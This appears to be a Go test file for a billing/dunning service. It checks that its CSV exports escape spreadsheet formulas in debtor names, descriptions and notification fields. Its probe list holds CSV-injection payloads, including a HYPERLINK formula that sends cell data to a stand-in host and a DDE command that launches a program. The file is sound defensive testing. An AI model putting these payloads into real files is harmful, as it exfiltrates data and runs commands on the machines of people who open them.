package dunning

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/kobana/kobana-mcp/dunning/files"
	"github.com/kobana/kobana-mcp/dunning/ledger"
	"github.com/kobana/kobana-mcp/dunning/notify"
	"github.com/kobana/kobana-mcp/platform/store"
	"github.com/kobana/kobana-mcp/platform/store/storetest"
)

// formulaProbes are cells a spreadsheet would run (OWASP "CSV
// Injection"), the values issue 22's probe wrote into exports verbatim.
var formulaProbes = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1+1", "\r=1+1"}

// TestExportsSafeToOpen: a debtor's name and city, a charge's
// description and a notification's address, subject and error holding
// formulas are written as text — prefixed with a single quote — in the
// charges, debtors and notifications exports with either separator,
// whatever the input's cleaning did to them (a debtor's leading TAB is
// trimmed on input, a notification's is not); the amounts stay numbers;
// formula_escaping none, asked for by name, writes them verbatim.
func TestExportsSafeToOpen(t *testing.T) {
	t.Parallel()
	storetest.RunParallel(t, Migrations, func(t *testing.T, db *store.DB) {
		fe := newCoreEnv(t, db)
		ctx := context.Background()
		// stored are the values as the API kept them, by column and row key.
		stored := map[string]string{}
		for i, p := range formulaProbes {
			ext := fmt.Sprintf("d%d", i)
			code, out := fe.call(fe.Owner, "PUT", "/v1/debtors/"+ext, obj{"name": p, "document": cpfOK, "address": obj{"street": "Rua A", "city": p, "state": "SP"}})
			if code != 201 {
				t.Fatalf("debtor %q: %d %v", p, code, out)
			}
			d := out["data"].(obj)
			stored["name/"+ext] = d["name"].(string)
			stored["city/"+ext] = d["address"].(obj)["city"].(string)
			c := fe.charge(obj{"debtor_id": ext, "external_id": "c" + ext, "description": p, "amount": 12.5, "due_date": "2026-03-20"})
			stored["description/c"+ext] = c["description"].(string)
			stored["debtor_name/c"+ext] = d["name"].(string)

			dr, err := ledger.GetDebtor(ctx, db, fe.Mine.ID, ext)
			if err != nil {
				t.Fatal(err)
			}
			subject, failure := p, p
			n := notify.Notification{ID: "n" + ext, OrganizationID: fe.Mine.ID, DebtorID: dr.ID, Kind: notify.KindAdHoc, Channel: "email", ToAddress: p,
				Subject: &subject, Body: "Olá", Status: notify.NotificationSent, Provider: ledger.DefaultProvider, QueuedAt: coreStart, Error: &failure,
				CreatedBy: "test", CreatedAt: coreStart, UpdatedAt: coreStart}
			if err := db.WithTx(ctx, func(tx *store.Tx) error { _, err := notify.InsertNotification(ctx, tx, n); return err }); err != nil {
				t.Fatal(err)
			}
			for _, col := range []string{"to", "subject", "error"} {
				stored[col+"/n"+ext] = p
			}
		}
		if stored["name/d5"] != "=1+1" || stored["to/nd5"] != "\t=1+1" {
			t.Fatalf("the input's cleaning changed: %q %q", stored["name/d5"], stored["to/nd5"])
		}

		checks := []struct {
			resource, key string
			cols          []string
		}{
			{"charges", "external_id", []string{"debtor_name", "description"}},
			{"debtors", "external_id", []string{"name", "city"}},
			{"notifications", "id", []string{"to", "subject", "error"}},
		}
		for _, sep := range []string{",", ";"} {
			for _, escaping := range []string{"", files.FormulaNone} {
				for _, c := range checks {
					body := obj{"resource": c.resource, "separator": sep}
					if escaping != "" {
						body["formula_escaping"] = escaping
					}
					exp := fe.ok(202, "POST", "/v1/exports", body)
					want := files.FormulaQuote
					if escaping != "" {
						want = escaping
					}
					if exp["formula_escaping"] != want {
						t.Fatalf("%s formula_escaping: %v", c.resource, exp)
					}
					exp = fe.waitFile("/v1/exports/" + exp["id"].(string))
					_, _, _, data := fe.download(exp["download_path"].(string))
					recs := readCSV(t, data, rune(sep[0]))
					if len(recs) != len(formulaProbes)+1 {
						t.Fatalf("%s %q: %d records", c.resource, sep, len(recs))
					}
					for _, rec := range recs[1:] {
						key := csvColumn(t, recs[0], rec, c.key)
						for _, col := range c.cols {
							// The file's records end in CRLF (RFC 4180), and
							// encoding/csv then drops a lone CR in a cell:
							// "\r=1+1" reads back "'=1+1", or "=1+1" raw.
							got, orig := csvColumn(t, recs[0], rec, col), strings.ReplaceAll(stored[col+"/"+key], "\r", "")
							wantCell := "'" + orig
							if escaping == files.FormulaNone {
								wantCell = orig
							}
							if got != wantCell {
								t.Errorf("%s %q escaping %q: %s of %s = %q, want %q", c.resource, sep, escaping, col, key, got, wantCell)
							}
						}
						if c.resource == "charges" {
							if amount := csvColumn(t, recs[0], rec, "amount"); amount != "12.50" && amount != "12,50" {
								t.Errorf("amount %q is no longer a number", amount)
							}
						}
					}
				}
			}
		}

		// An escaping the export has not is refused by name; MCP's tool
		// takes the option too.
		fields, _ := fe.fails(fe.Owner, 422, "VALIDATION_ERROR", "POST", "/v1/exports", obj{"resource": "charges", "formula_escaping": "strip"})
		wantFields(t, fields, "formula_escaping")
		out, isErr := fe.Call(fe.Owner, "dunning_exports_create", map[string]any{"resource": "debtors", "formula_escaping": "none"})
		if isErr || !strings.Contains(out, `"formula_escaping": "none"`) {
			t.Fatalf("tool: %v %s", isErr, out)
		}
	})
}
